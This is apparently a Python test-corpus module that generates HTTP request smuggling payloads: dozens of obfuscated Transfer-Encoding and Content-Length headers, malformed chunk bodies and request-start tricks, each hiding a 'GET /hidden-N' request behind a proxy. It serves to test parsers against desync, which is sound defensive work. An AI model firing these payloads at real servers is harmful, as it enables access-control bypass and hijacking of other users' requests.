"""Pairs of requests in one: what a proxy could take for one request and the server behind it for two, or the reverse.

Each attack hides `GET /hidden-N` where only one of two disagreeing parsers sees a request. Written after the RFCs and
the literature: «HTTP Desync Attacks» (CL.TE, TE.CL, TE.TE, CL.0, 0.CL) and «Funky Chunks» (TERM.EXT and its like).
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Attack:
    """`hidden` is the path that nobody may be given unless the proxy itself saw it."""

    name: str
    data: bytes
    hidden: str


# Ways to write a transfer coding that one parser believes and another one does not.
CODINGS = {
    "plain": b"Transfer-Encoding: chunked\r\n",
    "space before the colon": b"Transfer-Encoding : chunked\r\n",
    "tab before the colon": b"Transfer-Encoding\t: chunked\r\n",
    "tab after the colon": b"Transfer-Encoding:\tchunked\r\n",
    "no space": b"Transfer-Encoding:chunked\r\n",
    "leading space": b" Transfer-Encoding: chunked\r\n",
    "leading tab": b"\tTransfer-Encoding: chunked\r\n",
    "vertical tab": b"Transfer-Encoding: \x0bchunked\r\n",
    "form feed": b"Transfer-Encoding: \x0cchunked\r\n",
    "NUL": b"Transfer-Encoding: \0chunked\r\n",
    "NUL behind": b"Transfer-Encoding: chunked\0\r\n",
    "high byte": b"Transfer-Encoding: \xffchunked\r\n",
    "non-breaking space": b"Transfer-Encoding:\xa0chunked\r\n",
    "DEL in the name": b"Transfer\x7f-Encoding: chunked\r\n",
    "underscore": b"Transfer_Encoding: chunked\r\n",
    "capitals": b"TRANSFER-ENCODING: CHUNKED\r\n",
    "quotes": b'Transfer-Encoding: "chunked"\r\n',
    "single quotes": b"Transfer-Encoding: 'chunked'\r\n",
    "parameter": b"Transfer-Encoding: chunked;a=b\r\n",
    "comma behind": b"Transfer-Encoding: chunked,\r\n",
    "comma before": b"Transfer-Encoding: ,chunked\r\n",
    "identity": b"Transfer-Encoding: identity\r\n",
    "identity and chunked": b"Transfer-Encoding: identity, chunked\r\n",
    "chunked and identity": b"Transfer-Encoding: chunked, identity\r\n",
    "two fields, cow last": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: cow\r\n",
    "two fields, cow first": b"Transfer-Encoding: cow\r\nTransfer-Encoding: chunked\r\n",
    "two fields, identity last": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
    "two fields, both chunked": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n",
    "x before": b"Transfer-Encoding: xchunked\r\n",
    "x behind": b"Transfer-Encoding: chunkedx\r\n",
    "empty and chunked": b"Transfer-Encoding:\r\nTransfer-Encoding: chunked\r\n",
    "folded": b"Transfer-Encoding:\r\n chunked\r\n",
    "folded by a tab": b"Transfer-Encoding:\r\n\tchunked\r\n",
    "fold in front": b"X: y\r\n Transfer-Encoding: chunked\r\n",
    "bare line feed in front": b"X: y\nTransfer-Encoding: chunked\r\n",
    "bare line feed behind": b"Transfer-Encoding: chunked\nX: y\r\n",
    "bare carriage return in front": b"X: y\rTransfer-Encoding: chunked\r\n",
    "bare carriage return behind": b"Transfer-Encoding: chunked\rX: y\r\n",
    "two carriage returns": b"Transfer-Encoding: chunked\r\r\n",
    "line feed after the colon": b"Transfer-Encoding:\n chunked\r\n",
    "dropped by Connection": b"Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked\r\n",
    "name continued": b"Transfer-\r\n Encoding: chunked\r\n",
}

LENGTHS = {
    "space before the colon": b"Content-Length : %d\r\n",
    "tab before the colon": b"Content-Length\t: %d\r\n",
    "plus": b"Content-Length: +%d\r\n",
    "leading zeros": b"Content-Length: 000%d\r\n",
    "list": b"Content-Length: %d, 0\r\n",
    "list, zero first": b"Content-Length: 0, %d\r\n",
    "twice, zero first": b"Content-Length: 0\r\nContent-Length: %d\r\n",
    "twice, zero last": b"Content-Length: %d\r\nContent-Length: 0\r\n",
    "underscore": b"Content_Length: %d\r\n",
    "vertical tab": b"Content-Length: \x0b%d\r\n",
    "hexadecimal": b"Content-Length: 0x%x\r\n",
    "NUL behind": b"Content-Length: %d\0\r\n",
    "folded": b"Content-Length:\r\n %d\r\n",
    "bare line feed in front": b"X: y\nContent-Length: %d\r\n",
    "bare carriage return in front": b"X: y\rContent-Length: %d\r\n",
    "dropped by Connection": b"Connection: Content-Length\r\nContent-Length: %d\r\n",
    "in HTTP/1.0 style": b"Content-Length: %d\r\nConnection: keep-alive\r\n",
    "waiting to be asked": b"Content-Length: %d\r\nExpect: 100-continue\r\n",
    "waiting, oddly": b"Content-Length: %d\r\nExpect: y 100-continue\r\n",
    "upgrading": b"Content-Length: %d\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n",
}

CHUNKS = {
    "extension and a bare line feed": b"2;\nxx\r\n%x\r\n0\r\n\r\n%b\r\n0\r\n\r\n",
    "bare line feed after the size": b"2\nxx\r\n%x\r\n0\r\n\r\n%b\r\n0\r\n\r\n",
    "bare carriage return in an extension": b"2;a\rxx\r\n%x\r\n0\r\n\r\n%b\r\n0\r\n\r\n",
    "bare carriage return after the size": b"2\rxx\r\n%x\r\n0\r\n\r\n%b\r\n0\r\n\r\n",
    "quoted line end": b'1;a="\r\nx\r\n%x\r\n0\r\n\r\n%b";\r\nx\r\n0\r\n\r\n',
    "data and a bare line feed": b"2\r\nxx\n%x\r\n0\r\n\r\n%b\r\n0\r\n\r\n",
    "data without an end": b"2\r\nxx%x\r\n0\r\n\r\n%b\r\n0\r\n\r\n",
    "data longer than said": b"2\r\nxxx\r\n%x\r\n0\r\n\r\n%b\r\n0\r\n\r\n",
    "size with 0x": b"0x%x\r\n0\r\n\r\n%b\r\n0\r\n\r\n",
    "size with a plus": b"+%x\r\n0\r\n\r\n%b\r\n0\r\n\r\n",
    "size with a minus": b"-%x\r\n0\r\n\r\n%b\r\n0\r\n\r\n",
    "size beyond 64 bits": b"1000000000000000%02x\r\n0\r\n\r\n%b\r\n0\r\n\r\n",
    "size with a space": b"0 %x\r\n0\r\n\r\n%b\r\n0\r\n\r\n",
    "size with NUL": b"0\0%x\r\n0\r\n\r\n%b\r\n0\r\n\r\n",
    "size with an underscore": b"0_%x\r\n0\r\n\r\n%b\r\n0\r\n\r\n",
    "end with bare line feeds": b"%x\r\n0\n\n123%b\r\n0\n\n",
    "a trailer that is a request": b"%x\r\n0\r\n\r\n%b\r\n0\r\nX: y\nGET /t HTTP/1.1\r\n\r\n",
    "a trailer with a length": b"%x\r\n0\r\n\r\n%b\r\n0\r\nContent-Length: 5\r\n\r\n",
    "end without an empty line": b"%x\r\n0\r\n\r\n%b\r\n0\r\n",
}

STARTS = {
    "bare line feed after the line": b"GET /start HTTP/1.1\nHost: a\n\n%b",
    "bare line feed for the empty line": b"GET /start HTTP/1.1\r\nHost: a\r\n\n%b",
    "bare carriage return for the empty line": b"GET /start HTTP/1.1\r\nHost: a\r\n\r%b",
    "a request in a field": b"GET /start HTTP/1.1\r\nHost: a\r\nX: y\r%b",
    "a request in a folded field": b"GET /start HTTP/1.1\r\nHost: a\r\nX: y\r\n %b",
    "a request in the target": b"GET /start%%0d%%0a%b",
    "a request behind a tunnel": b"CONNECT a:80 HTTP/1.1\r\nHost: a\r\n\r\n%b",
    "a request behind a WebSocket": (
        b"GET /start HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 77\r\n\r\n%b"
    ),
    "a request behind h2c": b"GET /start HTTP/1.1\r\nHost: a\r\nUpgrade: h2c\r\nConnection: Upgrade\r\n\r\n%b",
    "a request behind HTTP/0.9": b"GET /start\r\n%b",
    "a request behind HTTP/1.0": b"GET /start HTTP/1.0\r\nHost: a\r\nConnection: keep-alive\r\n\r\n%b",
    "a request behind Connection: close": b"GET /start HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n%b",
    "a request behind a HEAD with chunks": (
        b"HEAD /start HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n%b"
    ),
}

TARGETS = (b"/start", b"/static/small.txt", b"/async/start")


def attacks() -> Iterator[Attack]:
    """Yield every attack, each with a hidden path of its own."""
    number = 0

    def hidden() -> bytes:
        nonlocal number
        number += 1
        return b"GET /hidden-%d HTTP/1.1\r\nHost: a\r\n\r\n" % number

    for target in TARGETS:
        head = b"POST " + target + b" HTTP/1.1\r\nHost: a\r\n"
        where = target.decode()
        for name, coding in CODINGS.items():
            body = b"0\r\n\r\n" + hidden()
            data = head + b"Content-Length: %d\r\n" % len(body) + coding + b"\r\n" + body
            yield Attack(f"CL.TE {name} {where}", data, f"/hidden-{number}")
            inner = hidden()
            body = b"%x\r\n" % len(inner)
            data = (
                head
                + b"Content-Length: %d\r\n" % len(body)
                + coding
                + b"\r\n"
                + body
                + inner
                + b"\r\n0\r\n\r\n"
            )
            yield Attack(f"TE.CL {name} {where}", data, f"/hidden-{number}")
            if name != "plain":
                inner = hidden()
                yield Attack(
                    f"TE.0 {name} {where}", head + coding + b"\r\n0\r\n\r\n" + inner, f"/hidden-{number}"
                )
        for name, length in LENGTHS.items():
            body = hidden()
            yield Attack(
                f"CL.0 {name} {where}", head + length % len(body) + b"\r\n" + body, f"/hidden-{number}"
            )
            body = hidden()
            get = head.replace(b"POST", b"GET", 1)
            yield Attack(
                f"CL.0 GET {name} {where}", get + length % len(body) + b"\r\n" + body, f"/hidden-{number}"
            )
        for name, chunks in CHUNKS.items():
            inner = hidden()
            body = chunks % (len(inner) + 5, inner)
            yield Attack(
                f"chunk {name} {where}", head + CODINGS["plain"] + b"\r\n" + body, f"/hidden-{number}"
            )
        for name, start in STARTS.items():
            data = start.replace(b"/start", target) % hidden()
            yield Attack(f"start {name} {where}", data, f"/hidden-{number}")
